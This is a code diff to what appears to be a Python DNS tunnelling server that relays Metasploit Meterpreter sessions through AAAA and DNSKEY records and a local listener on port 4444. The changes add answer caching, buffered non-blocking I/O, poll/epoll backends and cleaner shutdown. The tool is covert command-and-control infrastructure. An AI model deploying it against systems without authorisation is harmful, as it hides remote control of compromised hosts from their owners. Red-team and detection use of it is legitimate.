+        # dot separated suffix of a lowercased name within the domain
+        self.domain_suffix = intern("." + domain.translate(DnsServer.LOWER_CASE))
         self.ipv4 = ipv4
         self.ns_servers = ns_servers
         self.logger = logging.getLogger(self.__class__.__name__)
-        self.handlers = {
-            QTYPE.NS: self._process_ns_request,
-            QTYPE.A: self._process_a_request,
-            QTYPE.AAAA: self._process_aaaa_request,
-            QTYPE.DNSKEY: self._process_dnskey_request
-        }
         self.aaaa_handler = AAAARequestHandler(self.domain)
         self.dnskey_handler = DNSKeyRequestHandler(self.domain)
+        # tunnel handlers are called directly with (reply, qname, sub_domain)
+        handlers = {
+            QTYPE.AAAA: self.aaaa_handler.process_request,
+            QTYPE.DNSKEY: self.dnskey_handler.process_request
+        }
+        # indexed by qtype, types above the largest supported one are not in the tuple
+        self.handlers = tuple(handlers.get(qtype) for qtype in xrange(max(handlers) + 1))
+        # answers of static types are packed once, they are the same for any name in the domain
+        self.static_rrs = {
+            QTYPE.NS: tuple(self._pack_rr(QTYPE.NS, server) for server in ns_servers),
+            QTYPE.A: (self._pack_rr(QTYPE.A, A(ipv4)),)
+        }
+        self.answer_cache = AnswerCache()
+
+    @staticmethod
+    def _pack_rr(rtype, rdata):
+        """
+        Pack resource record with name pointing to qname of the question(offset 12)
+        """
+        rdata_buf = DNSBuffer()
+        rdata.pack(rdata_buf)
+        return struct.pack(">HHHIH", 0xc000 | 12, rtype, 1, 1, len(rdata_buf.data)) + bytes(rdata_buf.data)
+
+    @staticmethod
+    def _pack_static_reply(request, rrs, question=None, flags=REPLY_FLAGS):
+        if question is None:
+            buf = DNSBuffer()
+            request.q.pack(buf)
+            question = bytes(buf.data)
+        header = DnsServer.REPLY_HEADER.pack(request.header.id, flags, 1, len(rrs), 0, 0)
+        return "".join(chain((header, question), rrs))
+
+    @staticmethod
+    def wire_question(data):
+        """
+        Get the question section of a query with a single question directly from the packet
+        :return: question bytes or None if the packet can't be inspected without parsing
+        """
+        data_len = len(data)
+        if not isinstance(data, str) or data_len < 17 or data[4:6] != "\x00\x01":
+            return None
+        offset = 12
+        label_len = ord(data[offset])
+        while label_len:
+            if label_len > 63:
+                # compressed or extended label
+                return None
+            offset += label_len + 1
+            if offset >= data_len:
+                return None
+            label_len = ord(data[offset])
+        end = offset + 5
+        if end > data_len:
+            return None
+        return data[12:end]
+
+    def get_cached_answer(self, data, question, transport):
+        """
+        Find a packed answer for the query without parsing it
+        """
+        # question ends with qtype and qclass
+        if question[-4:-2] not in DnsServer.STATIC_QTYPES_WIRE:
+            return None
+        answer = self.answer_cache.get(question)
+        if answer is None or (len(answer) > 575 and transport == BaseRequestHandlerDNS.TRANSPORT_UDP):
+            return None
+        self.logger.debug("Send cached reply for DNS request")
+        # only transaction id differs
+        return data[:2] + answer[2:]
+
+    def process_request(self, request, transport, question=None):
+        q = request.q
+        qname = q.qname
+        qtype = q.qtype
+        qn = str(qname)
+        logger = self.logger
+        # raw question is the cache key, it echoes the case of qname in the answer
+        cache_key = question if question and qtype in DnsServer.STATIC_QTYPES else None
 
-    def process_request(self, request, transport):
-        reply = DNSRecord(DNSHeader(id=request.header.id, qr=1, aa=1, ra=1), q=request.q)
-        qn = str(request.q.qname)
-        qtype = request.q.qtype
         qt = QTYPE[qtype]
-        if qn.endswith(self.domain):
-            try:
-                self.logger.info("Process request for type %s", qt)
-                self.handlers[qtype](reply, qn)
-            except KeyError as e:
-                self.logger.info("%s request type is not supported", qt)
+        domain_suffix = self.domain_suffix
+        # names are case insensitive, lowercase once for matching and keep the original case for handlers
+        name = "." + ".".join(qname.label)
+        if name.translate(DnsServer.LOWER_CASE).endswith(domain_suffix):
+            static_rrs = self.static_rrs.get(qtype)
+            if static_rrs is not None:
+                logger.debug("Send answer for %s request", qt)
+                answer = self._pack_static_reply(request, static_rrs, question)
+                if cache_key:
+                    self.answer_cache.put(cache_key, answer)
+                return self._truncate_answer(request, answer, transport)
+
+            sub_domain = name[1:len(name) - len(domain_suffix)]
+            handlers = self.handlers
+            handler = handlers[qtype] if qtype < len(handlers) else None
+            if handler:
+                logger.debug("Process request for type %s", qt)
+                reply = DNSRecord(DNSHeader(id=request.header.id, qr=1, aa=1, ra=1), q=q)
+                handler(reply, qn, sub_domain)
+                logger.debug("Send reply for DNS request")
+                answer = bytes(reply.pack())
+            else:
+                logger.debug("%s request type is not supported", qt)
+                answer = self._pack_static_reply(request, (), question)
         else:
-            self.logger.info("DNS request for domain %s is not handled by this server. Sending empty answer.", qn)
-        self.logger.info("Send reply for DNS request")
-        self.logger.debug("Reply data: %s", reply)
-        answer = reply.pack()
+            logger.debug("DNS request for domain %s is not handled by this server. Sending empty answer.", qn)
+            answer = self._pack_static_reply(request, (), question)
+        if cache_key:
+            self.answer_cache.put(cache_key, answer)
+        return self._truncate_answer(request, answer, transport)
+
+    @staticmethod
+    def _truncate_answer(request, answer, transport):
         if (len(answer) > 575) and (transport == BaseRequestHandlerDNS.TRANSPORT_UDP):
             # send truncate flag
-            reply = DNSRecord(DNSHeader(id=request.header.id, qr=1, aa=1, ra=1, tc=1), q=request.q)
-            answer = reply.pack()
+            answer = DnsServer._pack_static_reply(request, (), flags=DnsServer.REPLY_FLAGS | DnsServer.TRUNCATED_FLAG)
         return answer
 
-    def _process_ns_request(self, reply, qname):
-        for server in self.ns_servers:
-            reply.add_answer(RR(rname=qname, rtype=QTYPE.NS, rclass=1, ttl=1, rdata=server))
-
-    def _process_a_request(self, reply, qname):
-        self.logger.info("Send answer for A request - %s", self.ipv4)
-        reply.add_answer(RR(rname=qname, rtype=QTYPE.A, rclass=1, ttl=1, rdata=A(self.ipv4)))
-
-    def _process_aaaa_request(self, reply, qname):
-        if self.aaaa_handler:
-            self.aaaa_handler.process_request(reply, qname)
-
-    def _process_dnskey_request(self, reply, qname):
-        if self.dnskey_handler:
-            self.dnskey_handler.process_request(reply, qname)
-
 
 def dns_response(data, transport):
     try:
-        request = DNSRecord.parse(data)
         dns_server = DnsServer.instance()
         if dns_server:
-            return dns_server.process_request(request, transport)
+            question = DnsServer.wire_question(data)
+            if question:
+                answer = dns_server.get_cached_answer(data, question, transport)
+                if answer is not None:
+                    return answer
+            request = DNSRecord.parse(data)
+            return dns_server.process_request(request, transport, question)
         else:
             logger.error("Can't get dns server instance.")
     except Exception as e:
-        logger.error("Exception during handle request " + str(e), exc_info=True)
+        logger.error("Exception during handle request %s", e, exc_info=True)
 
 
 class BaseRequestHandlerDNS(SocketServer.BaseRequestHandler):
@@ -998,11 +1169,14 @@ class BaseRequestHandlerDNS(SocketServer.BaseRequestHandler):
         raise NotImplementedError
 
     def handle(self):
-        logger.info("DNS request %s (%s %s):", self.__class__.__name__[:3], self.client_address[0],
-                    self.client_address[1])
+        debug = logger.isEnabledFor(logging.DEBUG)
+        if debug:
+            logger.debug("DNS request %s (%s %s):", self.__class__.__name__[:3], self.client_address[0],
+                         self.client_address[1])
         try:
             data = self.get_data()
-            logger.debug("Size:%d, data %s", len(data), data)
+            if debug:
+                logger.debug("Size:%d, data %s", len(data), data)
             dns_ans = dns_response(data, self.TRANSPORT)
             if dns_ans:
                 self.send_data(dns_ans)
@@ -1011,6 +1185,7 @@ class BaseRequestHandlerDNS(SocketServer.BaseRequestHandler):
 
 
 class PartedDataReader(object):
+    __slots__ = ("read_func", "header_func", "completion_func", "continue_func", "state", "header", "data")
     INITIAL = 1
     RECEIVING_DATA = 2
 
@@ -1052,16 +1227,15 @@ class PartedDataReader(object):
 
 class MSFClient(object):
     HEADER_SIZE = 32
+    RECV_SIZE = 65536
     LOGGER = logging.getLogger("MSFClient")
 
-    def __init__(self, sock, server):
-        # enable keep-alive every minute
-        sock.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
-        sock.setsockopt(socket.SOL_TCP, socket.TCP_KEEPIDLE, 60)
-        sock.setsockopt(socket.SOL_TCP, socket.TCP_KEEPCNT, 4)
-        sock.setsockopt(socket.SOL_TCP, socket.TCP_KEEPINTVL, 15)
+    def __init__(self, sock, server, keepalive=True):
+        if keepalive:
+            MSFClient.setup_keepalive(sock)
         sock.setblocking(False)
         self.sock = sock
+        self.fd = sock.fileno()
         self.server = server
         self.msf_id = ""
         self.client = None
@@ -1070,8 +1244,33 @@ class MSFClient(object):
         self.lock = threading.Lock()
         self.client_event = threading.Event()
         self.parted_reader = None
+        # received data, consumed up to rx_offset
+        self.rx_buffer = bytearray()
+        # consumed data is cut off when the buffer is refilled, not on every read
+        self.rx_offset = 0
+        # the socket receives into this view, no string is allocated per recv
+        self.rx_view = memoryview(bytearray(MSFClient.RECV_SIZE))
+        # buffered data is left for a reader which is set up out of the listener loop
+        self.rx_pending = False
+        # msf has closed the connection, the buffered data is drained before closing
+        self.rx_eof = False
+        # unsent tail of the packet to the server
+        self.pending_data = None
         self._setup_id_reader()
 
+    @staticmethod
+    def setup_keepalive(sock):
+        # enable keep-alive every minute
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
+        sock.setsockopt(socket.SOL_TCP, socket.TCP_KEEPIDLE, 60)
+        sock.setsockopt(socket.SOL_TCP, socket.TCP_KEEPCNT, 4)
+        sock.setsockopt(socket.SOL_TCP, socket.TCP_KEEPINTVL, 15)
+
+    @staticmethod
+    def has_keepalive(sock):
+        return sock.getsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE) != 0 and \
+            sock.getsockopt(socket.SOL_TCP, socket.TCP_KEEPIDLE) == 60
+
     def get_socket(self):
         return self.sock if not self.wait_client else None
 
@@ -1087,20 +1286,69 @@ class MSFClient(object):
         self.close()
         self.server.remove_me(self)
 
-    def _read_data(self, size):
-        data = None
+    def _fill_buffer(self, size):
+        """
+        Receive into the buffer if it holds less than size bytes
+        :return: False if connection is closed
+        """
+        if self._buffered() >= size or self.rx_eof:
+            return True
+        rx_buffer = self.rx_buffer
         try:
-            data = self.sock.recv(size)
-            if not data:
+            received = self.sock.recv_into(self.rx_view)
+            if not received:
+                if self._buffered():
+                    # complete packets are still buffered, read_new_data closes the connection after them
+                    self.rx_eof = True
+                    return True
                 MSFClient.LOGGER.info("Connection closed by msf")
                 self._on_closing_connection()
-                return None
-            return data
+                return False
+            if self.rx_offset:
+                del rx_buffer[:self.rx_offset]
+                self.rx_offset = 0
+            rx_buffer.extend(self.rx_view[:received])
+            return True
+        except socket.error as e:
+            if e.errno in (errno.EAGAIN, errno.EWOULDBLOCK):
+                return True
+            MSFClient.LOGGER.error("Exception during read. Closing connection.", exc_info=True)
         except:
-            # connection closed
             MSFClient.LOGGER.error("Exception during read. Closing connection.", exc_info=True)
-            self._on_closing_connection()
+        # connection closed
+        self._on_closing_connection()
+        return False
+
+    def _read_data(self, size):
+        """
+        Read up to size bytes
+        """
+        if not self._fill_buffer(size):
+            return None
+        rx_buffer = self.rx_buffer
+        start = self.rx_offset
+        end = min(start + size, len(rx_buffer))
+        data = bytes(rx_buffer[start:end])
+        if end == len(rx_buffer):
+            del rx_buffer[:]
+            self.rx_offset = 0
+        else:
+            self.rx_offset = end
+        return data or None
+
+    def _read_exact(self, size):
+        """
+        Read exactly size bytes, a shorter part is left in the buffer
+        """
+        if not self._fill_buffer(size) or self._buffered() < size:
             return None
+        return self._read_data(size)
+
+    def _buffered(self):
+        return len(self.rx_buffer) - self.rx_offset
+
+    def has_buffered_data(self):
+        return self.rx_pending and not self.wait_client
 
     def on_new_client(self):
         with self.lock:
@@ -1109,6 +1357,7 @@ class MSFClient(object):
                     self._setup_status_request_reader()
                     Registrator.instance().unsubscribe(self.msf_id, self)
                     self.wait_client = False
+                    self.rx_pending = self._buffered() > 0
                     self.polling()
             else:
                 self.LOGGER.error("Client already exists for this server")
@@ -1119,6 +1368,7 @@ class MSFClient(object):
                 self._setup_stage_reader()
                 self.stage_requested = True
                 self.wait_client = False
+                self.rx_pending = self._buffered() > 0
                 self.polling()
             else:
                 MSFClient.LOGGER.info("Stage has already was requested on this server")
@@ -1149,8 +1399,8 @@ class MSFClient(object):
                                               )
 
     def _read_id_header(self, data):
-        id_size_byte = self._read_data(1)
-        if id_size_byte and len(id_size_byte) == 1:
+        id_size_byte = self._read_exact(1)
+        if id_size_byte:
             id_size = struct.unpack("B", id_size_byte)[0]
             return id_size, None
         else:
@@ -1171,8 +1421,8 @@ class MSFClient(object):
 
     def _read_stage_header(self, data):
         MSFClient.LOGGER.info("Start reading stager")
-        data_size_b = self._read_data(4)
-        if data_size_b and len(data_size_b) == 4:
+        data_size_b = self._read_exact(4)
+        if data_size_b:
             data_size = struct.unpack("<I", data_size_b)[0]
             MSFClient.LOGGER.info("Stager size is %d bytes", data_size)
             return data_size+4, data_size_b
@@ -1226,16 +1476,15 @@ class MSFClient(object):
             return -1, header
 
         if len(data) != 0:
-            MSFClient.LOGGER.info("Full header is read succesfully(%s)", self.sock)
+            MSFClient.LOGGER.debug("Full header is read succesfully(%s)", self.sock)
         MSFClient.LOGGER.debug("PARSE HEADER")
-        xor_key = header[:4]
-        pkt_length_binary = xor_bytes(xor_key, header[24:28])
-        pkt_length = struct.unpack('>I', pkt_length_binary)[0]
-        MSFClient.LOGGER.info("Packet length %d", pkt_length)
+        # packet length is xored with the first 4 bytes of the header
+        pkt_length = struct.unpack_from('>I', header, 0)[0] ^ struct.unpack_from('>I', header, 24)[0]
+        MSFClient.LOGGER.debug("Packet length %d", pkt_length)
         return pkt_length+24, header
 
     def _read_tlv_complete(self, data):
-        MSFClient.LOGGER.info("All data from server is read. Sending to client.")
+        MSFClient.LOGGER.debug("All data from server is read. Sending to client.")
         if self.client:
             self.client.server_put_data(data.get_data())
         else:
@@ -1263,10 +1512,36 @@ class MSFClient(object):
             if self.wait_client:
                 MSFClient.LOGGER.error("Data is received in waiting client state.Can't not be here!!!!")
                 return
-            if self.parted_reader:
+            self.rx_pending = False
+            # one recv may bring several messages, continue while the reader consumes the buffer
+            while self.parted_reader and self.sock:
+                buffered = self._buffered()
                 self.parted_reader.read()
+                remaining = self._buffered()
+                if not remaining or remaining == buffered:
+                    break
+            if self.rx_eof and self.sock and not self.wait_client:
+                self._close_on_eof()
+
+    def _close_on_eof(self):
+        discarded = self._buffered()
+        reader = self.parted_reader
+        if reader:
+            # the reader holds the part of the packet it has already taken from the buffer
+            if reader.state == PartedDataReader.RECEIVING_DATA:
+                discarded += reader.data.current_size
+            else:
+                discarded += len(reader.header)
+        if discarded:
+            MSFClient.LOGGER.warning("Connection closed by msf, %d bytes of incomplete packet are discarded",
+                                     discarded)
+        else:
+            MSFClient.LOGGER.info("Connection closed by msf")
+        self._on_closing_connection()
 
     def want_write(self):
+        if self.pending_data is not None:
+            return True
         if self.client:
             return self.client.server_has_data()
         return False
@@ -1275,15 +1550,30 @@ class MSFClient(object):
         self.server.poll()
 
     def write_data(self):
-        if self.client:
-            data = self.client.server_get_data()
-            if data:
-                MSFClient.LOGGER.info("Send data to server - %d bytes", len(data))
-                self.sock.send(data)
+        if self.pending_data is None:
+            data = self.client.server_get_data() if self.client else None
+            if not data:
+                return
+            MSFClient.LOGGER.debug("Send data to server - %d bytes", len(data))
+            # slices of memoryview don't copy the data on partial sends
+            self.pending_data = memoryview(data)
+        while self.pending_data is not None:
+            try:
+                sent = self.sock.send(self.pending_data)
+            except socket.error as e:
+                if e.errno in (errno.EAGAIN, errno.EWOULDBLOCK):
+                    return
+                MSFClient.LOGGER.error("Exception during write. Closing connection.", exc_info=True)
+                self._on_closing_connection()
+                return
+            self.pending_data = self.pending_data[sent:] if sent < len(self.pending_data) else None
 
     def close(self):
         self.sock.close()
         self.sock = None
+        self.pending_data = None
+        del self.rx_buffer[:]
+        self.rx_offset = 0
 
     def on_client_timeout(self):
         MSFClient.LOGGER.info("Closing connection.(client timeout)")
@@ -1293,27 +1583,172 @@ class MSFClient(object):
         self.polling()
 
 
+class Poller(object):
+    """
+    Wait for events on a set of file descriptors.
+    Interests map fd to (owner, mask), owner tells apart different sockets reusing the same fd.
+    """
+    READ = 1
+    WRITE = 2
+    AVAILABLE = True
+
+    def poll(self, interests, timeout):
+        """
+        :return: list of (fd, mask) for ready descriptors
+        """
+        raise NotImplementedError()
+
+    def close(self):
+        pass
+
+
+class SelectPoller(Poller):
+    def poll(self, interests, timeout):
+        inputs = [fd for fd, (_, mask) in interests.iteritems() if mask & Poller.READ]
+        outputs = [fd for fd, (_, mask) in interests.iteritems() if mask & Poller.WRITE]
+        read_lst, write_lst, exc_lst = select.select(inputs, outputs, inputs, timeout)
+        events = dict.fromkeys(read_lst, Poller.READ)
+        for fd in write_lst:
+            events[fd] = events.get(fd, 0) | Poller.WRITE
+        return events.items()
+
+
+class RegisteringPoller(Poller):
+    """
+    Poller which keeps the interests registered between calls and updates only changed ones
+    """
+    def __init__(self):
+        # fd -> (owner, mask) as registered
+        self.registered = {}
+
+    def _register(self, fd, mask):
+        raise NotImplementedError()
+
+    def _unregister(self, fd):
+        raise NotImplementedError()
+
+    def _wait(self, timeout):
+        raise NotImplementedError()
+
+    def poll(self, interests, timeout):
+        registered = self.registered
+        for fd in [fd for fd in registered if fd not in interests]:
+            del registered[fd]
+            self._unregister(fd)
+        for fd, interest in interests.iteritems():
+            if registered.get(fd) != interest:
+                self._register(fd, interest[1])
+                registered[fd] = interest
+        return self._wait(timeout)
+
+    def close(self):
+        self.registered.clear()
+
+
+class PollPoller(RegisteringPoller):
+    AVAILABLE = hasattr(select, "poll")
+    # errors and hang up are reported as readable, recv tells what happened
+    READ_EVENTS = select.POLLIN | select.POLLPRI | select.POLLERR | select.POLLHUP | select.POLLNVAL \
+        if AVAILABLE else 0
+
+    def __init__(self):
+        super(PollPoller, self).__init__()
+        self.poller = select.poll()
+
+    def _register(self, fd, mask):
+        events = select.POLLIN | select.POLLPRI if mask & Poller.READ else 0
+        if mask & Poller.WRITE:
+            events |= select.POLLOUT
+        # registering an already registered fd modifies it
+        self.poller.register(fd, events)
+
+    def _unregister(self, fd):
+        with ignored(KeyError):
+            self.poller.unregister(fd)
+
+    def _wait(self, timeout):
+        ready = []
+        for fd, events in self.poller.poll(int(timeout * 1000)):
+            mask = Poller.READ if events & PollPoller.READ_EVENTS else 0
+            if events & select.POLLOUT:
+                mask |= Poller.WRITE
+            ready.append((fd, mask))
+        return ready
+
+
+class EpollPoller(RegisteringPoller):
+    AVAILABLE = hasattr(select, "epoll")
+
+    def __init__(self):
+        super(EpollPoller, self).__init__()
+        self.epoll = select.epoll()
+
+    def _register(self, fd, mask):
+        events = select.EPOLLIN if mask & Poller.READ else 0
+        if mask & Poller.WRITE:
+            events |= select.EPOLLOUT
+        try:
+            self.epoll.modify(fd, events)
+        except IOError as e:
+            # closed descriptors are removed from epoll by the kernel
+            if e.errno != errno.ENOENT:
+                raise
+            self.epoll.register(fd, events)
+
+    def _unregister(self, fd):
+        with ignored(IOError, ValueError):
+            self.epoll.unregister(fd)
+
+    def _wait(self, timeout):
+        ready = []
+        for fd, events in self.epoll.poll(timeout):
+            # errors and hang up are reported as readable, recv tells what happened
+            mask = Poller.READ if events & (select.EPOLLIN | select.EPOLLERR | select.EPOLLHUP) else 0
+            if events & select.EPOLLOUT:
+                mask |= Poller.WRITE
+            ready.append((fd, mask))
+        return ready
+
+    def close(self):
+        super(EpollPoller, self).close()
+        self.epoll.close()
+
+
 class MSFListener(object):
     SELECT_TIMEOUT = 10
+    IO_BACKENDS = dict((name, poller) for name, poller in (("select", SelectPoller),
+                                                           ("poll", PollPoller),
+                                                           ("epoll", EpollPoller)) if poller.AVAILABLE)
+    DEFAULT_IO_BACKEND = "epoll" if "epoll" in IO_BACKENDS else "select"
 
-    def __init__(self, listen_addr="0.0.0.0", listen_port=4444):
+    def __init__(self, listen_addr="0.0.0.0", listen_port=4444, io_backend=DEFAULT_IO_BACKEND):
         self.listen_addr = listen_addr
         self.listen_port = listen_port
+        self.poller_cls = MSFListener.IO_BACKENDS[io_backend]
         self.listen_socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         self.listen_socket.setblocking(False)
         self.shutdown_event = threading.Event()
         self.logger = logging.getLogger(self.__class__.__name__)
-        self.clients = []
+        # file descriptor -> MSFClient
+        self.clients = {}
         pipe = os.pipe()
         self.poll_pipe = (os.fdopen(pipe[0], "r", 0), os.fdopen(pipe[1], "w", 0))
+        # set while a wake-up byte is in the pipe, further polls don't need to write
+        self.poll_pending = False
         self.loop_thread = None
+        # accepted sockets inherit keep-alive options of the listen socket on some systems,
+        # checked on the first connection
+        self.keepalive_inherited = None
 
     def remove_me(self, client):
-        with ignored(ValueError):
-            self.clients.remove(client)
+        with ignored(KeyError):
+            if self.clients[client.fd] is client:
+                del self.clients[client.fd]
 
     def poll(self):
-        self.poll_pipe[1].write("\x90")
+        if not self.poll_pending:
+            self.poll_pending = True
+            self.poll_pipe[1].write("\x90")
 
     def shutdown(self):
         self.logger.info("request for shutdown server")
@@ -1323,6 +1758,13 @@ class MSFListener(object):
             self.loop_thread.join()
         self.loop_thread = None
 
+    def close(self):
+        """
+        Release the wake-up pipe, the listener can't be used after this
+        """
+        for f in self.poll_pipe:
+            f.close()
+
     def start_loop(self):
         self.loop_thread = threading.Thread(target=self.loop)
         self.loop_thread.daemon = True
@@ -1332,51 +1774,74 @@ class MSFListener(object):
         self.logger.info("Server internal loop started.")
         self.listen_socket.bind((self.listen_addr, self.listen_port))
         self.listen_socket.listen(1)
+        MSFClient.setup_keepalive(self.listen_socket)
 
+        listen_fd = self.listen_socket.fileno()
+        poll_fd = self.poll_pipe[0].fileno()
+        poller = self.poller_cls()
+        read_write = Poller.READ | Poller.WRITE
         while not self.shutdown_event.is_set():
-            inputs = [self.listen_socket, self.poll_pipe[0]]
-            outputs = []
-
-            for cl in self.clients:
-                s = cl.get_socket()
-                if s:
-                    inputs.append(s)
-                    if cl.want_write():
-                        outputs.append(s)
-
-            read_lst, write_lst, exc_lst = select.select(inputs, outputs, inputs, MSFListener.SELECT_TIMEOUT)
+            interests = {listen_fd: (self.listen_socket, Poller.READ), poll_fd: (self.poll_pipe[0], Poller.READ)}
+            buffered = []
+
+            # clients may be removed from other threads, iterate over a copy
+            for cl in self.clients.values():
+                if cl.get_socket():
+                    interests[cl.fd] = (cl, read_write if cl.want_write() else Poller.READ)
+                    if cl.has_buffered_data():
+                        buffered.append(cl.fd)
+
+            # don't wait for the socket if the client has already received data to process
+            events = poller.poll(interests, 0 if buffered else MSFListener.SELECT_TIMEOUT)
+            read_lst = [fd for fd, mask in events if mask & Poller.READ]
+            write_lst = [fd for fd, mask in events if mask & Poller.WRITE]
+            if buffered:
+                read_lst = set(read_lst)
+                read_lst.update(buffered)
 
             # handle input
-            for s in read_lst:
-                if s is self.listen_socket:
-                    connection, address = s.accept()
+            for fd in read_lst:
+                if fd == listen_fd:
+                    connection, address = self.listen_socket.accept()
                     self.logger.info("Incoming connection from address %s", address)
-                    self.clients.append(MSFClient(connection, self))
-                elif s is self.poll_pipe[0]:
+                    if self.keepalive_inherited is None:
+                        self.keepalive_inherited = MSFClient.has_keepalive(connection)
+                        self.logger.info("Keep-alive options are %sinherited from the listen socket",
+                                         "" if self.keepalive_inherited else "not ")
+                    cl = MSFClient(connection, self, keepalive=not self.keepalive_inherited)
+                    self.clients[cl.fd] = cl
+                elif fd == poll_fd:
                     self.logger.debug("Polling")
-                    s.read(1)
+                    # drain before clearing the flag, otherwise a byte written in between would be
+                    # read here and leave the flag set with an empty pipe
+                    os.read(poll_fd, 512)
+                    self.poll_pending = False
                 else:
-                    self.logger.info("Socket is ready for reading")
-                    for cl in self.clients:
-                        if cl.get_socket() == s:
-                            cl.read_new_data()
+                    self.logger.debug("Socket is ready for reading")
+                    cl = self.clients.get(fd)
+                    if cl and cl.get_socket():
+                        cl.read_new_data()
 
             # handle write
-            for s in write_lst:
-                for cl in self.clients:
-                    if cl.get_socket() == s:
-                        cl.write_data()
+            for fd in write_lst:
+                cl = self.clients.get(fd)
+                if cl and cl.get_socket():
+                    cl.write_data()
         # close sockets after exit from loop
+        poller.close()
         self.listen_socket.close()
-        for cl in self.clients:
+        for cl in self.clients.values():
             cl.close()
+        self.clients.clear()
         self.logger.info("Internal loop is ended")
 
 
 class TCPRequestHandler(BaseRequestHandlerDNS):
     TRANSPORT = BaseRequestHandlerDNS.TRANSPORT_TCP
+    TIMEOUT = 5
 
     def get_data(self):
+        self.request.settimeout(TCPRequestHandler.TIMEOUT)
         data = self.request.recv(8192)
         sz = struct.unpack('>H', data[:2])[0]
         if sz < len(data) - 2:
@@ -1406,6 +1871,9 @@ def main():
     parser.add_argument('--lport', default=4444, type=int, help='The Meterpreter port to listen on.')
     parser.add_argument('--domain', type=str, required=True, help='The domain name')
     parser.add_argument('--ipaddr', type=str, required=True, help='DNS IP')
+    parser.add_argument('--io-backend', default=MSFListener.DEFAULT_IO_BACKEND,
+                        choices=sorted(MSFListener.IO_BACKENDS),
+                        help='Event notification used by the Meterpreter listener.')
 
     args = parser.parse_args()
     ns_records = []
@@ -1417,24 +1885,27 @@ def main():
     DnsServer.create(args.domain, args.ipaddr, ns_records)
 
     logger.info("Creating MSF listener ...")
-    listener = MSFListener('0.0.0.0', args.lport)
+    listener = MSFListener('0.0.0.0', args.lport, args.io_backend)
     listener.start_loop()
 
     logger.info("Starting nameserver ...")
+    # queries are answered in the server loop threads without a thread per request,
+    # a stalled TCP client holds up the TCP loop for TCPRequestHandler.TIMEOUT at most
     servers = [SocketServer.UDPServer(('', args.dport), UDPRequestHandler),
                SocketServer.TCPServer(('', args.dport), TCPRequestHandler)]
 
+    threads = []
     for s in servers:
-        thread = threading.Thread(target=s.serve_forever)  # that thread will start one more thread for each request
+        thread = threading.Thread(target=s.serve_forever)
         thread.daemon = True  # exit the server thread when the main thread terminates
         thread.start()
-        logger.info("%s server loop running in thread: %s" % (s.RequestHandlerClass.__name__[:3], thread.name))
+        threads.append(thread)
+        logger.info("%s server loop running in thread: %s", s.RequestHandlerClass.__name__[:3], thread.name)
 
     try:
+        # servers run in their threads, logging handlers flush on every record
         while True:
-            time.sleep(1)
-            sys.stderr.flush()
-            sys.stdout.flush()
+            time.sleep(3600)
     except KeyboardInterrupt:
         pass
     finally:
@@ -1442,7 +1913,11 @@ def main():
         Registrator.instance().shutdown()
         for s in servers:
             s.shutdown()
+            s.server_close()
+        for thread in threads:
+            thread.join(1)
         listener.shutdown()
+        listener.close()
         logging.shutdown()
 
 